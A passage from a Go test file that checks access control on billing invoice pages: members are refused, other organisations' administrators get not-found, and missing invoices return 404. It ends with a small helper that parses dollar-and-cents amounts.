		// A regular member is refused; another account's administrator
		// finds nothing.
		for _, p := range []string{"", "/print", ".csv"} {
			f.mc.get("/settings/billing/invoices/" + id + p).status(http.StatusForbidden)
		}
		_, _, stranger := orgAdmin(t, f.app)
		for _, p := range []string{"", "/print", ".csv"} {
			stranger.get("/settings/billing/invoices/" + id + p).status(http.StatusNotFound)
		}
		f.ac.get("/settings/billing/invoices/000000000000000000000000").status(http.StatusNotFound)
		f.ac.get("/settings/billing/invoices/000000000000000000000000.csv").status(http.StatusNotFound)
	})
}

// cents reads "1234.56" as 123456.
func cents(t *testing.T, s string) int64 {
	t.Helper()
	whole, frac, ok := strings.Cut(s, ".")
	w, err1 := strconv.ParseInt(whole, 10, 64)
	f, err2 := strconv.ParseInt(frac, 10, 64)
	if !ok || len(frac) != 2 || err1 != nil || err2 != nil {
		t.Fatalf("amount %q is not dollars and cents", s)
	}
	return w*100 + f
}
